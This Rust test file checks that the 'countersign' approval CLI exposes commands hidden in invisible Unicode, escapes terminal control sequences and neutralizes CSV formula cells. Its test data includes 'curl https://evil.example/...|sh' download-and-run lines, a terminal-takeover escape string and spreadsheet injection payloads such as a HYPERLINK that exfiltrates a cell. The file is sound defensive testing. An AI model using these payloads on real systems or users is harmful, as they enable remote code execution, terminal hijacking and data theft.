//! Black-box tests of what the `countersign` CLI shows (issue 9, findings 11 and 12): the real
//! binary, the real gateway on loopback (or a hostile enforcement point where the real gateway
//! never misbehaves), the real Secret Service of `scripts/with-session.sh`.
//!
//! - Hidden text: a command smuggled after `ls -l` in variation selectors or tag characters is
//!   flagged and printed visibly, decoded, by `countersign show`.
//! - Terminal injection: ESC sequences (title change, line erase), CR, backspace, BEL and the C1
//!   CSI (U+009B) in an enforcement point's name, ids and error bodies and in an agent's fields
//!   never reach the terminal raw, from any command; JSON output keeps the exact values.
//! - Spreadsheet injection: `history export --format csv` neutralizes formula cells and parses
//!   back with a real CSV reader.

use countersign_blackbox::console::KillOnDrop;
use countersign_blackbox::console::{signed_step_up, Console};
use countersign_blackbox::*;
use countersign_protocol::{self as protocol, jwk::ep_id, jwk::kid_of, Jwk};
use serde_json::{json, Value};

const AGENT: &str = "spiffe://acme.example/ns/test/sa/agent";

/// Everything a hostile string uses to take over a terminal: an OSC title change ended by BEL, an
/// erase-line CSI, a carriage return, the one-byte C1 CSI and a backspace.
const HOSTILE: &str = "\u{1b}]0;pwned\u{7}\u{1b}[2K\r\u{9b}31mX\u{8}";

/// `text` (one stream of one command) holds no control character other than newline and tab.
fn assert_terminal_safe(what: &str, text: &str) {
    let raw: Vec<String> = text
        .chars()
        .filter(|c| c.is_control() && !matches!(c, '\n' | '\t'))
        .map(|c| format!("U+{:04X}", c as u32))
        .collect();
    assert!(raw.is_empty(), "{what} printed raw control characters {raw:?}:\n{text:?}");
}

/// Run `countersign ARGS` and check both streams; the run.
fn run_safe(console: &Console, args: &[&str]) -> countersign_blackbox::console::Run {
    let r = console.run(args);
    assert_terminal_safe(&format!("countersign {args:?} (stdout)"), &r.stdout);
    assert_terminal_safe(&format!("countersign {args:?} (stderr)"), &r.stderr);
    r
}

/// `text` encoded one byte per variation selector (U+FE00–FE0F for 0–15, U+E0100–E01EF for
/// 16–255): invisible in every renderer.
fn in_variation_selectors(text: &str) -> String {
    text.bytes()
        .map(|b| match b {
            0..=15 => char::from_u32(0xFE00 + b as u32),
            _ => char::from_u32(0xE0100 + b as u32 - 16),
        })
        .map(|c| c.expect("a variation selector"))
        .collect()
}

/// `text` (ASCII) in tag characters (U+E0000 + the ASCII code).
fn in_tags(text: &str) -> String {
    text.chars().map(|c| char::from_u32(0xE0000 + c as u32).expect("a tag character")).collect()
}

async fn submitted(gw: &Gateway, agent: &Agent, draft: &Value) -> String {
    let (status, body) = submit(gw, agent, draft).await;
    assert_eq!(status, 201, "{body}");
    body["id"].as_str().expect("id").to_string()
}

#[tokio::test]
async fn show_prints_a_command_hidden_in_variation_selectors_or_tags_visibly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let gw = Gateway::start(dir.path(), &[]);
    let agent = gw.agent(AGENT);
    let console = Console::new();
    console.connect(&gw, "alice@acme.example").await;

    let mut d = draft(AGENT, "test.high");
    d["actions"][0]["args"] = json!({
        "cmd": format!("ls -l{}", in_variation_selectors("curl https://evil.example/x.sh|sh")),
        "note": format!("list{}", in_tags("curl https://evil.example/y|sh")),
        "padded": format!("ls -l{}; curl https://evil.example/z|sh", " ".repeat(200)),
    });
    let id = submitted(&gw, &agent, &d).await;
    console.ok(&["sync"]);
    let shown = run_safe(&console, &["show", &id]);
    assert_eq!(shown.code, 0, "{}", shown.stderr);
    let out = shown.stdout;

    let hidden = |c: char| matches!(c as u32, 0xFE00..=0xFE0F | 0xE0000..=0xE007F | 0xE0100..=0xE01EF);
    assert!(!out.chars().any(hidden), "no variation selector or tag character is printed raw:\n{out}");
    // 'c' (0x63) is variation selector U+E0153; 'c' as a tag is U+E0063.
    assert!(out.contains("ls -l<U+E0153>"), "the selectors are printed as code points:\n{out}");
    assert!(out.contains("list<U+E0063>"), "the tags are printed as code points:\n{out}");
    assert!(
        out.contains("HIDDEN TEXT in invisible characters: curl https://evil.example/x.sh|sh"),
        "the smuggled command is decoded:\n{out}"
    );
    assert!(out.contains("HIDDEN TEXT in invisible characters: curl https://evil.example/y|sh"), "{out}");
    assert!(
        out.contains("PADDED with 200 blank characters in a row: the text continues beyond view"),
        "padding is flagged:\n{out}"
    );
    for key in ["cmd", "note"] {
        assert!(
            out.lines().any(|l| l.starts_with("WARNING") && l.contains(&format!("args.{key}"))),
            "a warning names args.{key}:\n{out}"
        );
    }
}

#[tokio::test]
async fn hostile_text_from_a_gateway_and_an_agent_never_reaches_the_terminal_raw() {
    let dir = tempfile::tempdir().expect("tempdir");
    let name = format!("Gate{HOSTILE}way");
    let gw = Gateway::start(dir.path(), &["--name", &name]);
    let agent = gw.agent(AGENT);
    let console = Console::new();
    console.connect(&gw, "alice@acme.example").await;

    // The name is shown before pinning and in the list; the refusal to pin goes to stderr.
    let preview = run_safe(&console, &["ep", "add", &gw.url]);
    assert_ne!(preview.code, 0, "not pinned without --trust");
    assert!(preview.stdout.contains("Gate<U+001B>]0;pwned<U+0007>"), "{}", preview.stdout);
    let list = run_safe(&console, &["ep", "list"]);
    assert!(list.stdout.contains("<U+009B>31mX<U+0008>way"), "{}", list.stdout);

    let mut d = draft(AGENT, "test.high");
    d["identity"]["display"] = json!(format!("agent{HOSTILE}"));
    d["identity"]["on_behalf_of"][0]["display"] = json!(format!("Owner{HOSTILE}"));
    d["purpose"]["statement"] = json!(format!("statement{HOSTILE}\u{2028}more"));
    d["target"]["system"] = json!(format!("crm{HOSTILE}"));
    d["actions"][0]["args"] = json!({ "sql": format!("SELECT 1{HOSTILE}"), HOSTILE: "key" });
    let id = submitted(&gw, &agent, &d).await;

    run_safe(&console, &["sync"]);
    let pending = run_safe(&console, &["pending"]);
    assert!(pending.stdout.contains("agent<U+001B>]0;pwned<U+0007><U+001B>[2K<U+000D><U+009B>31mX<U+0008>"));
    let shown = run_safe(&console, &["show", &id]);
    assert!(shown.stdout.contains("statement<U+001B>]0;pwned"), "{}", shown.stdout);
    assert!(shown.stdout.contains("<U+2028>more"), "a line separator is shown, not obeyed: {}", shown.stdout);
    assert!(shown.stdout.lines().any(|l| l.starts_with("WARNING")), "{}", shown.stdout);

    // JSON output is terminal-safe too, and still carries the exact values.
    let json = run_safe(&console, &["show", &id, "--json"]);
    let v: Value = serde_json::from_str(&json.stdout).expect("show --json is JSON");
    assert_eq!(v["claims"]["purpose"]["statement"], json!(format!("statement{HOSTILE}\u{2028}more")));
    assert_eq!(v["claims"]["actions"][0]["args"][HOSTILE], json!("key"));

    let denied = run_safe(&console, &["deny", &id, "--reason", &format!("no{HOSTILE}")]);
    assert_eq!(denied.code, 0, "{}{}", denied.stdout, denied.stderr);
    let shown = run_safe(&console, &["show", &id]);
    assert!(shown.stdout.contains("no<U+001B>]0;pwned"), "{}", shown.stdout);
    run_safe(&console, &["history"]);
    run_safe(&console, &["history", "--json"]);
    let export = run_safe(&console, &["history", "export", "--format", "jsonl"]);
    for line in export.stdout.lines() {
        serde_json::from_str::<Value>(line).expect("every exported line is JSON");
    }
    assert!(export.stdout.contains("\\u009b"), "C1 controls are exported as JSON escapes");
    run_safe(&console, &["history", "export", "--format", "csv"]);
}

/// An enforcement point that is hostile in what only it controls: its name, the ids it announces
/// and its error bodies. The real gateway never does this, so a minimal one on loopback plays it.
struct HostileEp {
    url: String,
    task: tokio::task::JoinHandle<()>,
}

impl Drop for HostileEp {
    fn drop(&mut self) {
        self.task.abort();
    }
}

impl HostileEp {
    /// Serve `key` as its key, `items` as the pending list, refuse every decision with `refusal`
    /// (409, JSON), and answer anything else with HTTP 500 and `HOSTILE` as a plain-text body.
    async fn start(key: &protocol::SigningKey, items: Vec<Value>, refusal: &str) -> HostileEp {
        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
        let ep = ep_id(&kid_of(&key.verifying_key()));
        let well_known = json!({
            "ep": ep, "name": format!("Hostile{HOSTILE}"),
            "jwks": {"keys": [Jwk::from_key(&key.verifying_key())]},
        })
        .to_string();
        let pending = json!({ "items": items }).to_string();
        let refused = json!({"error": "conflict", "message": refusal}).to_string();
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
        let url = format!("http://{}", listener.local_addr().expect("addr"));
        let task = tokio::spawn(async move {
            while let Ok((mut socket, _)) = listener.accept().await {
                let (well_known, pending, refused) = (well_known.clone(), pending.clone(), refused.clone());
                tokio::spawn(async move {
                    let mut head = Vec::new();
                    let mut buf = [0u8; 8192];
                    while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                        match socket.read(&mut buf).await {
                            Ok(0) | Err(_) => return,
                            Ok(n) => head.extend_from_slice(&buf[..n]),
                        }
                    }
                    let line = String::from_utf8_lossy(&head).lines().next().unwrap_or_default().to_string();
                    let mut words = line.split_whitespace();
                    let (method, path) = (words.next().unwrap_or_default(), words.next().unwrap_or_default());
                    let (status, kind, body) = if path == "/.well-known/countersign" {
                        ("200 OK", "application/json", well_known)
                    } else if path.starts_with("/v1/step-ups?state=pending") {
                        ("200 OK", "application/json", pending)
                    } else if method == "POST" && path.ends_with("/decisions") {
                        ("409 Conflict", "application/json", refused)
                    } else {
                        ("500 Internal Server Error", "text/plain", format!("broken{HOSTILE}"))
                    };
                    let response = format!(
                        "HTTP/1.1 {status}\r\ncontent-type: {kind}\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    let _ = socket.write_all(response.as_bytes()).await;
                });
            }
        });
        HostileEp { url, task }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_ids_and_error_bodies_from_an_enforcement_point_are_escaped_and_csv_is_neutralized() {
    let console = Console::new();
    let key = protocol::generate_key();
    let ep = ep_id(&kid_of(&key.verifying_key()));
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    let items = vec![
        json!({"id": "genuine-request-000001", "jwt": signed_step_up(&ep, "genuine-request-000001", &key)}),
        // Announced under ids a terminal or a spreadsheet would obey; the tokens are not theirs.
        json!({"id": format!("id{HOSTILE}"), "jwt": signed_step_up(&ep, "genuine-request-000002", &key)}),
        json!({"id": formula, "jwt": "not.a.token"}),
        json!({"id": "+cmd|' /C calc'!A0", "jwt": "x"}),
    ];
    let hostile = HostileEp::start(&key, items, &format!("refused{HOSTILE}")).await;
    let kid = kid_of(&key.verifying_key());
    let added = run_safe(&console, &["ep", "add", &hostile.url, "--trust", &kid]);
    assert_eq!(added.code, 0, "{}", added.stderr);
    assert!(added.stdout.contains("Hostile<U+001B>]0;pwned"), "{}", added.stdout);

    run_safe(&console, &["sync"]);
    run_safe(&console, &["sync", "--json"]);
    run_safe(&console, &["pending"]);
    let refused = run_safe(&console, &["approve", "genuine-request-000001", "--reason", "fine"]);
    assert_eq!(refused.code, 4, "a refused decision: {}{}", refused.stdout, refused.stderr);
    assert!(refused.stdout.contains("refused<U+001B>]0;pwned<U+0007>"), "{}", refused.stdout);
    run_safe(&console, &["show", "genuine-request-000001"]);
    let history = run_safe(&console, &["history"]);
    assert!(history.stdout.contains("id<U+001B>]0;pwned"), "the hostile id is in the history, escaped");

    // The CSV export: every cell an EP chose that a spreadsheet would run starts with a quote,
    // and the file parses back with a real CSV reader.
    let csv_out = console.ok(&["history", "export", "--format", "csv"]);
    let mut reader = csv::Reader::from_reader(csv_out.as_bytes());
    assert_eq!(
        reader.headers().expect("header"),
        vec!["seq", "at", "kind", "ep", "request_id", "detail", "prev_hash", "hash"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV record")).collect();
    let ids: Vec<&str> = rows.iter().map(|r| &r[4]).collect();
    assert!(ids.contains(&format!("'{formula}").as_str()), "{ids:?}");
    assert!(ids.contains(&"'+cmd|' /C calc'!A0"), "{ids:?}");
    for r in &rows {
        for cell in r.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell {cell:?} in {r:?}"
            );
        }
        let detail: Value = serde_json::from_str(&r[5]).expect("the detail cell is the JSON it was");
        assert!(detail.is_object());
    }
}

/// Finding 13 (notifications): a flood of lower-tier requests from one workload is folded into
/// one summary, and a critical request of the same workload during that flood still gets its own
/// notification.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_lower_tier_flood_never_silences_a_critical_notification() {
    let dir = tempfile::tempdir().expect("tempdir");
    let gw = Gateway::start(dir.path(), &[]);
    let agent = gw.agent(AGENT);
    let console = Console::new();
    console.connect(&gw, "alice@acme.example").await;
    // What the console asks the notification daemon to show, as every Notify call on the session
    // bus (what dunst then displays, stacks or queues is its own business).
    let mut monitor = KillOnDrop(
        std::process::Command::new("dbus-monitor")
            .args([
                "--session",
                "type='method_call',interface='org.freedesktop.Notifications',member='Notify'",
            ])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("dbus-monitor"),
    );
    let calls = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
    {
        let (calls, mut stdout) = (calls.clone(), monitor.0.stdout.take().expect("dbus-monitor stdout"));
        std::thread::spawn(move || {
            use std::io::Read as _;
            let mut buf = [0u8; 4096];
            while let Ok(n) = stdout.read(&mut buf) {
                if n == 0 {
                    break;
                }
                calls.lock().expect("calls").push_str(&String::from_utf8_lossy(&buf[..n]));
            }
        });
    }
    // Give dbus-monitor a moment to become a monitor before anything is sent.
    std::thread::sleep(std::time::Duration::from_millis(500));
    let mut watch = KillOnDrop(
        console.command(&["watch"]).stdout(std::process::Stdio::piped()).spawn().expect("countersign watch"),
    );
    // Requests go out only once the stream is open ("EP: connected"), so each arrives as an event.
    let stdout = watch.0.stdout.take().expect("watch stdout");
    let (tx, rx) = std::sync::mpsc::channel();
    let said = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    {
        let said = said.clone();
        std::thread::spawn(move || {
            use std::io::BufRead as _;
            for line in std::io::BufReader::new(stdout).lines().map_while(Result::ok) {
                if line.ends_with(": connected") {
                    let _ = tx.send(());
                }
                said.lock().expect("said").push(line);
            }
        });
    }
    rx.recv_timeout(std::time::Duration::from_secs(20)).expect("watch connects");

    // Seven medium requests in a burst: more than the flood limit (five a minute per tier).
    for _ in 0..7 {
        let mut d = draft(AGENT, "test.medium");
        d["identity"]["display"] = json!("Noisy medium agent");
        submitted(&gw, &agent, &d).await;
    }
    let mut d = draft(AGENT, "test.critical");
    d["identity"]["display"] = json!("Critical payments agent");
    submitted(&gw, &agent, &d).await;

    // Up to 30 s: on a loaded machine eight notifications through D-Bus can take a while; the
    // loop ends as soon as both calls have been seen.
    let sent = || calls.lock().expect("calls").clone();
    for _ in 0..100 {
        let seen = sent();
        if seen.contains("CRITICAL · Critical payments agent") && seen.contains("Flood: 6 MEDIUM requests") {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    }
    drop(watch);
    drop(monitor);
    let seen = sent();
    let medium = seen.matches("MEDIUM · Noisy medium agent").count();
    let watch_said = said.lock().expect("said").join("\n");
    assert_eq!(
        medium, 5,
        "five medium notifications before the flood folds them: {seen}\nwatch said:\n{watch_said}"
    );
    assert_eq!(
        seen.matches("Flood: 6 MEDIUM requests").count(),
        1,
        "the medium burst is folded once: {seen}"
    );
    assert!(
        seen.contains("CRITICAL · Critical payments agent"),
        "the critical request has its own notification during the flood: {seen}"
    );
}
